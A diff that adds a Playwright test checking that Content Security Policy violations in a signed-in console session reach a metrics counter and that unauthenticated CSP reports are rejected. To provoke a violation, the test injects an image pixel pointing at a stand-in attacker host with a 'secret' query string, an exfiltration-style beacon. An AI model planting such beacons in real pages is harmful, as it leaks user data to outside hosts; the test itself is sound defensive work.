@@ -107,3 +107,29 @@ for (const policy of ["sent", "left out"] as const)
     }
     await page.close();
   });
+
+test("what a page's policy keeps from somebody who is signed in is told to the console, and from nobody else", async ({
+  browser,
+  consoleUrl,
+  sessions,
+  stranger,
+}) => {
+  const told = async () => {
+    const metrics = await (await stranger.get("/metrics")).text();
+    return Number(/^purge_console_page_violations_total (\d+)$/m.exec(metrics)?.[1]);
+  };
+  const before = await told();
+  const page = await browser.newPage({ baseURL: consoleUrl, storageState: sessions.support });
+  await page.goto("/");
+  await page.evaluate(() => {
+    const picture = document.createElement("img");
+    picture.src = "https://evil.example/pixel.png?secret";
+    document.body.append(picture);
+  });
+  await expect.poll(told).toBeGreaterThan(before);
+  await page.close();
+  const report = { "csp-report": { "effective-directive": "img-src" } };
+  const headers = { "content-type": "application/csp-report" };
+  const answer = await stranger.post("/api/v1/csp-reports", { data: report, headers });
+  expect(answer.status()).toBe(401);
+});
